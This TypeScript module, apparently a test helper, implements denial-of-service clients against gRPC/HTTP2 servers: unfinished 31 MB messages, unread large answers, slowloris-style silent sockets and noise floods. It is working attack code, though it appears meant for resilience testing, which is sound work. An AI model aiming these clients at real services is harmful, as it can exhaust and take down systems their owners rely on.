/**
 * Clients that mean no good, made of Node's own HTTP/2, HTTP and sockets. Every attack keeps its connections open until its
 * signal is aborted.
 */
import type { IncomingHttpHeaders } from 'node:http';
import { connect as connectHttp2, type ClientHttp2Session, type ClientHttp2Stream } from 'node:http2';
import { connect, type Socket } from 'node:net';

export interface Attack {
  readonly open: () => number;
  readonly closed: () => number;
  readonly sentBytes: () => number;
  end(): Promise<void>;
}

/** Where a client knocks. */
export interface Target {
  readonly host: string;
  readonly port: number;
}

/** What a gRPC message says of its length, and how much of it is sent. */
const DECLARED_BYTES = 31 * 1024 * 1024;
const PIECE_BYTES = 64 * 1024;
/** Longest wait for the first or the next bytes of an answer. */
const ANSWER_DEADLINE_MS = 10_000;
/** A call that is refused hears so within this time; later it waits for its turn. */
const REFUSAL_DEADLINE_MS = 1_000;

const grpcHeaders = (path: string) => ({
  ':method': 'POST',
  ':path': path,
  'content-type': 'application/grpc',
  te: 'trailers',
});

/** Counts what its connections do. */
class Crowd {
  opened = 0;
  gone = 0;
  sent = 0;
  readonly #ends: (() => void)[] = [];

  /** One more that came, and how to end it. */
  add(end: () => void): () => void {
    this.opened += 1;
    this.#ends.push(end);
    let isGone = false;
    return () => {
      if (!isGone) this.gone += 1;
      isGone = true;
    };
  }

  attack(): Attack {
    return {
      open: () => this.opened - this.gone,
      closed: () => this.gone,
      sentBytes: () => this.sent,
      end: async () => {
        for (const end of this.#ends) end();
        await new Promise((resolve) => setImmediate(resolve));
      },
    };
  }
}

function openSession(crowd: Crowd, { host, port }: Target): { session: ClientHttp2Session; onGone: () => void } {
  const session = connectHttp2(`http://${host}:${port}`);
  const onGone = crowd.add(() => {
    session.destroy();
  });
  session.on('error', onGone);
  session.on('close', onGone);
  return { session, onGone };
}

/** Calls whose message announces 31 MB, sends as much as is taken, and is never complete. */
export function unfinishedMessages(target: Target, path: string, count: number): Attack {
  const crowd = new Crowd();
  for (let i = 0; i < count; i++) {
    const { session, onGone } = openSession(crowd, target);
    const stream = session.request(grpcHeaders(path));
    stream.on('error', onGone);
    stream.on('close', onGone);
    stream.resume();
    const prefix = Buffer.alloc(5);
    prefix.writeUInt32BE(DECLARED_BYTES, 1);
    stream.write(prefix);
    void pour(stream, DECLARED_BYTES - 1, crowd);
  }
  return crowd.attack();
}

async function pour(stream: ClientHttp2Stream, bytes: number, crowd: Crowd): Promise<void> {
  const piece = Buffer.alloc(PIECE_BYTES);
  const closed = new Promise((resolve) => stream.once('close', resolve));
  for (let left = bytes; left > 0 && !stream.destroyed; left -= PIECE_BYTES) {
    crowd.sent += Math.min(left, PIECE_BYTES);
    const isTaken = stream.write(left < PIECE_BYTES ? piece.subarray(0, left) : piece);
    if (!isTaken) await Promise.race([closed, new Promise((resolve) => stream.once('drain', resolve))]);
  }
}

/** Calls that ask for something large and never read the answer. Resolves with undefined when most of them were refused. */
export async function unreadAnswers(
  target: Target,
  path: string,
  message: Buffer,
  count: number,
): Promise<Attack | undefined> {
  const crowd = new Crowd();
  const framed = grpcMessage(message);
  const calls = Array.from({ length: count }, () => {
    const { session, onGone } = openSession(crowd, target);
    const stream = session.request(grpcHeaders(path));
    stream.on('close', onGone);
    stream.pause();
    crowd.sent += framed.length;
    stream.end(framed);
    return new Promise<boolean>((resolve) => {
      // Headers that hold a status are a refusal: there is no answer behind them.
      stream.once('response', (headers) => {
        resolve(headers['grpc-status'] === undefined);
      });
      stream.on('error', () => {
        onGone();
        resolve(false);
      });
      stream.setTimeout(REFUSAL_DEADLINE_MS, () => {
        resolve(true);
      });
    });
  });
  const held = (await Promise.all(calls)).filter(Boolean).length;
  const attack = crowd.attack();
  if (held > count / 2) return attack;
  await attack.end();
  return undefined;
}

/** Makes a call as a peer would: the bytes of its answer. @throws Error that says with which status it was refused */
export async function countAnswer({ host, port }: Target, path: string, message: Buffer): Promise<number> {
  const session = connectHttp2(`http://${host}:${port}`);
  try {
    const stream = session.request(grpcHeaders(path));
    let status: unknown;
    const readStatus = (headers: IncomingHttpHeaders): void => {
      status = headers['grpc-status'];
    };
    stream.on('response', readStatus);
    stream.on('trailers', readStatus);
    stream.setTimeout(ANSWER_DEADLINE_MS, () => {
      stream.destroy(new Error(`${path} did not answer within ${ANSWER_DEADLINE_MS} ms`));
    });
    stream.end(grpcMessage(message));
    let bytes = 0;
    for await (const piece of stream as AsyncIterable<Buffer>) bytes += piece.length;
    if (Number(status) !== 0) throw new Error(`${path} ended with gRPC status ${String(status)}, expected 0`);
    return bytes;
  } finally {
    session.destroy();
  }
}

/** As gRPC sends it: not compressed, with its length before it. */
function grpcMessage(message: Buffer): Buffer {
  const framed = Buffer.alloc(5 + message.length);
  framed.writeUInt32BE(message.length, 1);
  message.copy(framed, 5);
  return framed;
}

/** Connections that send a few bytes and wait. */
export function silentSockets(target: Target, firstBytes: string, count: number): Attack {
  const crowd = new Crowd();
  for (let i = 0; i < count; i++) {
    const socket = openSocket(crowd, target);
    socket.write(firstBytes);
    crowd.sent += firstBytes.length;
  }
  return crowd.attack();
}

/** Connections that send noise as fast as it is taken. */
export function noise(target: Target, count: number): Attack {
  const crowd = new Crowd();
  const piece = Buffer.from(
    Uint32Array.from({ length: PIECE_BYTES / 4 }, (_, i) => Math.imul(i + 1, 0x9e3779b9)).buffer,
  );
  for (let i = 0; i < count; i++) {
    const socket = openSocket(crowd, target);
    const write = (): void => {
      while (!socket.destroyed && socket.write(piece)) crowd.sent += piece.length;
    };
    socket.on('connect', write);
    socket.on('drain', write);
  }
  return crowd.attack();
}

function openSocket(crowd: Crowd, { host, port }: Target): Socket {
  const socket = connect({ host, port });
  const onGone = crowd.add(() => {
    socket.destroy();
  });
  socket.on('error', onGone);
  socket.on('close', onGone);
  socket.resume();
  return socket;
}
